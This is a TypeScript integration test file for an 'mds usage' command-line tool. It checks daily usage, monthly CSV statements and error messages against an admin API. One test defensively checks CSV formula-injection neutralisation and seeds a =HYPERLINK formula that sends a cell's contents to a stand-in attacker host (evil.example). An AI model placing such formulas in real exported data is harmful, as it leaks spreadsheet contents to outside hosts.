/**
 * `mds usage GRANT_ID --daily` and `mds usage statement` (docs/decisions.md
 * 62), run as an operator would (the built dist/mds.mjs) on every backend,
 * against usage made by real /v1 answers: the same counts as the admin API
 * (one set of operations behind both), the statement's CSV byte for byte,
 * refusals naming the option.
 */
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { type AdminHarness, startAdminHarness } from '../support/admin.js';
import { backends } from '../support/backends.js';
import { mds } from '../support/cli.js';
import { createAccount, createGrant } from '../support/keys.js';

const today = () => new Date().toISOString().slice(0, 10);

describe.each(backends())('mds usage on $name', (backend) => {
  let h: AdminHarness;
  let token: string;
  let grantId: string;
  let keys: string[];

  beforeAll(async () => {
    h = await startAdminHarness(backend);
    ({ token } = await h.token(['usage:read']));
    const first = await h.newKey();
    grantId = first.grantId;
    const second = await h.keyFor(grantId);
    keys = [first.publicId, second.publicId].sort();
    for (const key of [first.key, first.key, second.key]) {
      expect((await h.get('/v1/assets', key)).statusCode).toBe(200);
    }
  });
  afterAll(async () => h?.close());

  it('--daily prints the days of the current month with each key, as the admin API answers', async () => {
    const res = await mds(['usage', grantId, '--daily', '--json'], { db: h.db.url });
    expect(res.status, res.stderr).toBe(0);
    const api = await h.call('GET', `/admin/v1/grants/${grantId}/usage/daily`, { token });
    expect(res.json()).toEqual(api.json().data);
    expect(res.json().requests).toBe(3);
    const day = res.json().days.at(-1);
    expect(day.day).toBe(today());
    expect(day.keys.map((k: { publicId: string }) => k.publicId)).toEqual(keys);

    const text = await mds(['usage', grantId, '--daily', '--from', today()], { db: h.db.url });
    expect(text.status, text.stderr).toBe(0);
    expect(text.stdout).toContain(`${grantId}: 3 requests from ${today()} to ${today()} (UTC days)`);
    expect(text.stdout).toMatch(new RegExp(`${today()}\\s+total\\s+3`));
  });

  it('statement prints the month as JSON, a table, or the admin API’s CSV', async () => {
    const month = today().slice(0, 7);
    const json = await mds(['usage', 'statement', '--month', month, '--json'], { db: h.db.url });
    expect(json.status, json.stderr).toBe(0);
    expect(json.json().month).toBe(month);
    const line = json.json().lines.find((l: { grant: { id: string } }) => l.grant.id === grantId);
    expect(line.requestsUsed).toBe(3);

    const csv = await mds(['usage', 'statement', '--month', month, '--csv'], { db: h.db.url });
    expect(csv.status, csv.stderr).toBe(0);
    const api = await h.call('GET', `/admin/v1/usage/statement?month=${month}`, {
      token,
      headers: { accept: 'text/csv' },
    });
    expect(csv.stdout).toBe(api.body);

    expect(line.grant).toMatchObject({ id: grantId, status: 'active', cancelledAt: null });

    const table = await mds(['usage', 'statement'], { db: h.db.url });
    expect(table.stdout).toMatch(
      /^ACCOUNT\s+ACCOUNT EXTERNAL ID\s+GRANT\s+PLAN\s+PROVIDER\s+GRANT EXTERNAL ID\s+STATUS\s+CANCELLED\s+USED/,
    );
    expect(table.stdout).toContain(grantId);
  });

  it('the statement CSV neutralises text a spreadsheet would run, in the CLI as in the admin API', async () => {
    // Formula injection (docs/decisions.md 86): an external id or a provider is the customer's text.
    const link = '=HYPERLINK("http://evil.example/?"&A1,"click")';
    const account = await createAccount(h.store, { name: 'Formula', externalId: link });
    const grant = await createGrant(h.store, {
      accountId: account.id,
      plan: '-1+2',
      provider: '@SUM(A1:A9)',
      externalId: '=1+1',
      scopes: ['rates:read'],
      monthlyRequestLimit: 1000,
      requestsPerMinute: 60,
    });
    const month = today().slice(0, 7);
    const api = await h.call('GET', `/admin/v1/usage/statement?month=${month}`, {
      token,
      headers: { accept: 'text/csv' },
    });
    expect(api.statusCode, api.body).toBe(200);
    const line = api.body.split('\r\n').find((l) => l.includes(grant.id));
    expect(line).toBe(
      `${account.id},"'=HYPERLINK(""http://evil.example/?""&A1,""click"")",${grant.id},'-1+2,'@SUM(A1:A9),'=1+1,active,,0,1000`,
    );
    const csv = await mds(['usage', 'statement', '--month', month, '--csv'], { db: h.db.url });
    expect(csv.status, csv.stderr).toBe(0);
    expect(csv.stdout).toBe(api.body);
    // The JSON keeps the values as stored.
    const json = await mds(['usage', 'statement', '--month', month, '--json'], { db: h.db.url });
    const stored = json.json().lines.find((l: { grant: { id: string } }) => l.grant.id === grant.id);
    expect(stored.account.externalId).toBe(link);
    expect(stored.grant.provider).toBe('@SUM(A1:A9)');
  });

  it('refuses a bad window, month or option naming it, exit code 2', async () => {
    const cases: Array<[string[], string]> = [
      [
        ['usage', grantId, '--daily', '--from', '2026-02-30'],
        '--from: must be a real calendar date as YYYY-MM-DD',
      ],
      [
        ['usage', grantId, '--daily', '--from', '2026-03-02', '--to', '2026-03-01'],
        '--from: must not be after --to',
      ],
      [
        ['usage', grantId, '--daily', '--from', '2024-01-01', '--to', '2026-01-01'],
        'must not exceed 366 days',
      ],
      [['usage', grantId, '--from', '2026-01-01'], '--from and --to go with --daily'],
      [['usage', 'grt_nope', '--daily'], 'no grant grt_nope'],
      [['usage', 'statement', '--month', '2026-13'], '--month: must be a calendar month as YYYY-MM'],
      [['usage', 'statement', '--csv', '--json'], 'give --csv or --json, not both'],
    ];
    for (const [args, message] of cases) {
      const res = await mds(args, { db: h.db.url });
      expect(res.status, args.join(' ')).toBe(2);
      expect(res.stderr, args.join(' ')).toContain(message);
      expect(res.stdout).toBe('');
    }
  });
});
